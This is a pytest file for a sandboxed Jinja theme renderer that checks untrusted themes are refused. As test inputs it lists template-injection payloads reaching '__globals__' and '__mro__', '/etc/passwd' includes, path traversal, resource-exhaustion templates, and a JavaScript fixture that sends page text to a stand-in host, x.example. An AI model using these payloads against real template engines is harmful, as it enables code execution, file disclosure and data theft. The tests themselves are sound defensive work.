"""A theme may be a stranger's: it gets plain values, and can do nothing with them but write."""

from __future__ import annotations

import datetime as dt
import threading
from collections.abc import Iterator
from dataclasses import replace
from functools import cache
from pathlib import Path

import pytest
from jinja2.exceptions import SecurityError
from markupsafe import Markup
from support.kits import SAMPLES, TODAY, filled_with, sample, theme, words
from support.sample_letter import ANA, LETTER

from kitgen.files.plain import NotPlainError, plain_copy
from kitgen.files.project import Layers
from kitgen.files.sandbox import MOST_TURNS, Sandbox
from kitgen.model.errors import InputError, Problem
from kitgen.model.feedback import Remark
from kitgen.model.kit import Kit
from kitgen.model.season import SeasonEntry
from kitgen.pages import kit as kit_pages
from kitgen.pages.format import FormatContext
from kitgen.pages.lessons import lessons_view
from kitgen.pages.letter import letter_screen, letter_view
from kitgen.pages.outbox import Outside
from kitgen.pages.people import everyone, people_view
from kitgen.pages.season import season_page, season_view
from kitgen.pages.shared import share_view
from kitgen.pages.theme import load_theme
from kitgen.pages.views import View
from kitgen.pages.weeks import weeks_sheet, weeks_view
from kitgen.rendering.kit import entry_of
from kitgen.sharing.share import SharedKit

FEW = 20_000  # turns, in place of the two million that a page has
SHIPPED = Layers.of(None).themes()
LEAVES = (str, Markup, bool, int, float, type(None), dt.date)


def leaves(value: object, place: str = "") -> Iterator[tuple[str, object]]:
    """Yield everything in a value that is neither a list nor a mapping, with its place."""
    if type(value) is dict:
        for key, item in value.items():
            assert type(key) is str, place
            yield from leaves(item, f"{place}.{key}")
    elif type(value) in (list, tuple):
        for item in value:  # type: ignore[attr-defined]
            yield from leaves(item, f"{place}[]")
    else:
        yield place, value


def full() -> Kit:
    found = filled_with("x")
    remark = Remark("went-well", "What went well", "Good.", "A coach", TODAY)
    problem = Problem("rule", "message", "advice", path=Path("/etc/passwd"))
    return replace(found, feedback=(remark,), warnings=(problem,))


def shared(kit: Kit) -> SharedKit:
    return SharedKit(
        kit.interview, kit.applicant, kit.steps, (), kit.worksheet,
        kit.interview.reflection.sections, TODAY,
    )  # fmt: skip


VIEWS = ("kit", "summary", "worksheet", "season", "lessons", "people", "weeks", "letter", "share")


@cache
def views() -> dict[str, View]:
    kits = [full(), *map(sample, SAMPLES)]
    entries = [entry_of(kit) for kit in kits]
    one = kits[0]
    weeks = weeks_sheet(entries, TODAY, words())
    assert weeks is not None
    return {
        "kit": kit_pages.kit_view(one, words(), Outside(frozenset(["kit.pdf"]))),
        "summary": kit_pages.summary_view(one, theme(), words()),
        "worksheet": kit_pages.reflection_view(one, words()),
        "season": season_view(entries, TODAY, words(), sheets=["weeks.pdf"]),
        "lessons": lessons_view(entries, words()),
        "people": people_view(everyone(entries), words()),
        "weeks": weeks_view(weeks),
        "letter": letter_view(LETTER, ANA),
        "share": share_view([shared(kit) for kit in kits], words()),
    }


@pytest.mark.thorough
def test_every_view_is_looked_at() -> None:
    assert tuple(views()) == VIEWS


@pytest.mark.thorough
@pytest.mark.parametrize("page", VIEWS)
def test_every_leaf_of_every_view_is_a_plain_value(page: str) -> None:
    view = views()[page]
    found = list(leaves(view))
    assert len(found) > 10
    for place, value in found:
        assert type(value) in LEAVES, f"{page}{place} is a {type(value).__name__}"
    assert plain_copy(view) == view or page in ("lessons", "season")  # pairs become lists


@pytest.mark.parametrize(
    "value",
    [Path("/etc/passwd"), ANA, LETTER, entry_of(full()), print, {1: "a"}, object()],
    ids=lambda value: type(value).__name__,
)
def test_nothing_but_plain_values_reaches_a_template(value: object) -> None:
    files = SHIPPED | {"classic/t.html": "{{ x }}"}
    with pytest.raises(TypeError, match="cannot be handed"):
        load_theme(files, "classic").render("t.html", x={"deep": [value]})


def filled(template: str, **values: object) -> str:
    files = SHIPPED | {"classic/t.html": template, "classic/again.html": "{% include 't.html' %}"}
    return load_theme(files, "classic").render("t.html", words(), **values)


@pytest.mark.parametrize(
    "template",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ ''['__class__'] }}",
        "{{ '' | attr('__class__') }}",
        "{{ words.__globals__ }}",
        "{{ words.tree }}",
        "{{ day.__func__ }}",
        "{{ rich.__closure__ }}",
        "{{ css.__code__ }}",
        "{{ css.cache_clear() }}",
        "{{ css.__wrapped__ }}",
        "{{ '{0.__class__}'.format(text) }}",
        "{{ text.format() }}",
        "{{ text.encode() }}",
        "{{ text | format }}",
        "{{ '%1000000000d' % 1 }}",
        "{{ date.strftime('%c') }}",
        "{{ date.today() }}",
        "{{ date.replace(year=1) }}",
        "{{ mapping.clear() }}",
        "{{ mapping.update({'a': 1}) }}",
        "{{ listed.append(1) }}",
        "{{ listed.sort() }}",
        "{{ 2 ** 1000000000 }}",
        "{{ 'a' * 1000000000 }}",
        "{{ [1] * 1000000000 }}",
        "{{ 1000000000 * 'a' }}",
        "{{ [1, 2] | random }}",
        "{{ lipsum() }}",
        "{{ text | center(1000000000) }}",
        "{{ text | indent(1000000000) }}",
        "{{ range(1000000000) }}",
        "{% include '/etc/passwd' %}",
        "{% include '../../content/profile.yaml' %}",
        "{% include 'modern/theme.toml' %}",
        "{% from 'classic/../modern/letter.html' import x %}",
        "{{ self.__init__ }}",
        "{{ cycler.__init__.__globals__ }}",
        "{{ namespace.__init__ }}",
        "{{ script('../../../etc/passwd') }}",
    ],
)
def test_what_a_stranger_s_theme_would_like_to_do_is_refused(template: str) -> None:
    with pytest.raises(InputError) as caught:
        filled(template, text="x", date=TODAY, mapping={"a": 1}, listed=[2, 1])
    assert caught.value.problems[0].rule == "theme"


@pytest.mark.parametrize(
    "template",
    [
        "{% for a in range(9999) %}{% for b in range(9999) %}{% endfor %}{% endfor %}",
        "{% macro f(n) %}{{ f(n-1) ~ f(n-1) if n }}{% endmacro %}{{ f(60) }}",
        "{% for n in [1] recursive %}{{ loop([1, 1]) if loop.depth < 60 }}{% endfor %}",
        "{% set n = n | default(1) + 1 %}{% include 'again.html' %}{% include 'again.html' %}",
        "{% block a %}{{ self.a() }}{{ self.a() }}{% endblock %}",
    ],
    ids=["loops", "macros", "recursive", "includes", "blocks"],
)
def test_nothing_goes_round_for_ever(template: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("kitgen.files.sandbox.MOST_TURNS", FEW)
    with pytest.raises(InputError, match=f"{FEW:,} times|RecursionError"):
        filled(template)


@pytest.mark.parametrize(
    "work",
    [
        "range(90000) | sum",
        "range(90000) | list",
        "range(90000) | map('string') | list | sort",
        "7 in (range(90000) | list)",
        "('a ' * 90000).split()",
        "('a' * 90000).replace('a', 'b')",
        "('a' * 90000) | replace('a', 'b')",
        "('a' * 90000) == ('a' * 90000)",
        "[range(90000) | list] | first",
        "'a'.join(range(90000) | map('string'))",
    ],
)
def test_what_takes_long_counts_as_many_turns(work: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("kitgen.files.sandbox.MOST_TURNS", 1_000)
    with pytest.raises(InputError, match="1,000 times"):
        filled("{% for n in range(40) %}{% set x = " + work + " %}{% endfor %}")


def test_what_is_handed_in_is_gone_through_as_often_as_a_page_likes() -> None:
    rows = [{"name": "a" * 1000, "deep": [{"n": "b"}] * 50} for _ in range(2000)]
    template = "{% for row in rows %}{{ rows | length }}{{ row.deep | length }}{% endfor %}"
    assert filled(template, rows=rows).startswith("200050200050")


def test_turns_are_counted_for_each_page_anew(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("kitgen.files.sandbox.MOST_TURNS", FEW)
    files = SHIPPED | {"classic/t.html": "{% for n in range(9000) %}{% endfor %}ok"}
    one = load_theme(files, "classic")
    pages = FEW // 9_000 + 2
    assert [one.render("t.html") for _ in range(pages)] == ["ok"] * pages


def test_a_season_of_thousands_is_no_matter_for_the_count() -> None:
    assert MOST_TURNS >= 2_000_000


@pytest.mark.parametrize(
    ("template", "said"),
    [
        ("{{ text.upper() }} {{ text.split('-') | join(' ') }}", "A-B a b"),
        ("{{ mapping.items }} {% for k, v in mapping.items2.items() %}{{ k }}{{ v }}{% endfor %}",
         "own a1"),
        ("{% for n in listed %}{{ loop.index }}{{ n }}{% endfor %}", "1221"),
        ("{{ date.year }}-{{ date.month }} {{ day(date) | length > 5 }}", "2026-11 True"),
        ("{% set ns = namespace(n=1) %}{% set ns.n = 2 %}{{ ns.n * 3 }} {{ 7 % 4 }}", "6 3"),
        ("{% for key, group in rows | groupby('k') %}{{ key }}{{ group | length }}{% endfor %}",
         "a2"),
    ],
)  # fmt: skip
def test_what_a_template_needs_is_there(template: str, said: str) -> None:
    values = {
        "text": "a-b",
        "mapping": {"items": "own", "items2": {"a": 1}},
        "listed": [2, 1],
        "date": TODAY,
        "rows": [{"k": "a"}, {"k": "a"}],
    }
    assert filled(template, **values) == said


# A page on a screen loads nothing and goes nowhere, whoever wrote its template

HEAD = (
    '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">'
    "<meta http-equiv=\"Content-Security-Policy\" content=\"{{ csp('copy.js', style='x') }}\">"
)
REST = "<title>T</title></head><body>{{ text }}</body></html>"


def page(template: str) -> str:
    files = SHIPPED | {"classic/letter-page.html": template}
    return letter_screen(LETTER, FormatContext(load_theme(files, "classic"), words(), ANA, {}))


def test_a_page_of_one_s_own_is_let_through() -> None:
    assert "<title>T</title>" in page(HEAD + REST.replace("text", "message.text"))


@pytest.mark.parametrize(
    "template",
    [
        "<!DOCTYPE html><html><head>" + REST.replace("text", "1"),
        HEAD + '<meta http-equiv="refresh" content="0;url=https://x.example/">',
        HEAD + "<META HTTP-EQUIV=' Refresh ' content='0'>",
        HEAD + '<link rel="dns-prefetch" href="//secret.x.example">',
        HEAD + '<base href="https://x.example/">',
        "<html><head><script>alert(1)</script>" + HEAD,
        "<html><body>" + HEAD,
        "<html>text first" + HEAD,
        "<html><head></head>" + HEAD,
        "<html><head><!--" + HEAD + "-->",
        "<html><head><title>" + HEAD + "</title>",
        HEAD.replace("{{ csp('copy.js', style='x') }}", "default-src *"),
        HEAD.replace("{{ csp('copy.js', style='x') }}", "{{ csp() | replace('none', 'self') }}"),
        HEAD.replace("script-src", "").replace(
            "{{ csp('copy.js', style='x') }}",
            "{{ csp('copy.js') | replace('sha256-', 'sha256-A') }}",
        ),
    ],
)
def test_a_page_that_could_load_or_leave_is_refused(template: str) -> None:
    with pytest.raises(InputError) as caught:
        page(template)
    assert str(caught.value.problems[0].path) == "themes/classic/letter-page.html"


def test_a_theme_cannot_bring_scripts_of_its_own(tmp_path: Path) -> None:
    own = tmp_path / "themes" / "mine"
    own.mkdir(parents=True)
    (own / "theme.toml").write_text('extends = "classic"\n')
    (own / "copy.js").write_text("location = 'https://x.example/?' + document.body.innerText;")
    with pytest.raises(InputError, match="scripts of its own"):
        Layers.of(tmp_path).themes()


def test_a_whole_copy_of_a_shipped_theme_is_a_theme(tmp_path: Path) -> None:
    base = tmp_path / "themes" / "base"
    base.mkdir(parents=True)
    for name, text in SHIPPED.items():
        if name.startswith("base/"):
            path = base / name.removeprefix("base/")
            path.parent.mkdir(exist_ok=True)
            path.write_text(text, "utf-8")
    assert Layers.of(tmp_path).themes() == SHIPPED


def test_every_page_of_a_season_has_its_policy() -> None:
    entry = SeasonEntry("k", "Ash", "Baker", TODAY, None, (), "")
    html = season_page([entry], TODAY, theme(), words())
    assert html.index("Content-Security-Policy") < html.index("<title>")


@pytest.mark.parametrize(
    "template",
    [
        "{% set n=namespace(x='a') %}{% for i in range(40) %}{% set n.x=n.x~n.x %}{% endfor %}",
        "{% set n=namespace(x='a') %}{% for i in range(40) %}{% set n.x=n.x+n.x %}{% endfor %}",
        "{% set n=namespace(x=[1]) %}{% for i in range(40) %}{% set n.x=n.x+n.x %}{% endfor %}",
        "{% set x = 'a' * 100000 %}{{ x.replace('a', x) }}",
        "{% set x = 'a' * 100000 %}{{ x | replace('a', x) }}",
        "{{ range(90000) | map('string') | join('x' * 1000) }}",
        "{{ ('x' * 1000).join(range(90000) | map('string')) }}",
        "{% set n=namespace(x='a') %}{% for i in range(40) %}{% set n.x=[n.x, n.x] %}{% endfor %}",
        "{% set n=namespace(x='a') %}{% for i in range(40) %}"
        "{% set n.x={'a': n.x, 'b': n.x} %}{% endfor %}",
        "{% set n=namespace(x='a') %}{% for i in range(40) %}{% set n.x=[n.x] * 2 %}{% endfor %}",
        "{% set n=namespace(x=9) %}{% for i in range(40) %}{% set n.x=n.x*n.x %}{% endfor %}",
        "{% for i in range(9999) %}{{ 'a' * 1000000 }}{% endfor %}",
        "{% macro m() %}{{ 'a' * 1000000 }}{% endmacro %}"
        "{% for i in range(9999) %}{{ m() }}{{ -99999999999 | turn }}{% endfor %}",
        "{% for i in range(99999) %}" + "a" * 5_000 + "{% endfor %}",
    ],
)
def test_no_text_or_list_grows_without_bounds(template: str) -> None:
    with pytest.raises(SecurityError, match="too long"):
        Sandbox(lambda name: template).fill("x", {})


def test_what_is_put_together_within_bounds_is_as_ever() -> None:
    template = (
        "{{ 'a' ~ 1 ~ '<' }} {{ ['a', 'b'] | join(', ') }} {{ 'aXb'.replace('X', '-') }} "
        "{{ 'aXaX' | replace('X', '<', 1) }} {{ 1 + 2 }} {{ '-'.join(['a', 'b']) }} "
        "{{ [{'t': 'a'}, {'t': '<'}] | join(',', attribute='t') }}"
    )
    made = Sandbox(lambda name: template).fill("x", {})
    assert made == "a1&lt; a, b a-b a&lt;aX 3 a-b a,&lt;"


def test_pages_that_are_made_side_by_side_count_for_themselves() -> None:
    box = Sandbox({"a": "{{ x }}{% for i in many %}{% endfor %}", "b": "b"}.get)
    box.fill("b", {})
    box.turn(5_000)
    mine = box.counts.turns
    other = threading.Thread(target=lambda: box.fill("a", {"x": "", "many": [1, 2, 3]}))
    other.start()
    other.join()
    assert box.counts.turns == mine > 0


def test_what_is_handed_in_weighs_what_the_same_made_in_a_template_weighs() -> None:
    value = {"a": ["bc", 1, None, {"": ()}], "d": "efg"}
    weights: dict[int, int] = {}
    copy = plain_copy(value, weights)
    box = Sandbox(lambda name: None)
    assert copy == {"a": ["bc", 1, None, {"": []}], "d": "efg"}
    assert weights[id(copy)] == box.weigh(value) == box.weigh(copy) > len("abcdefg")


def test_more_than_data_is_handed_to_no_template() -> None:
    with pytest.raises(NotPlainError, match="object"):
        Sandbox(lambda name: "").fill("x", {"deep": [{"in": object()}]})
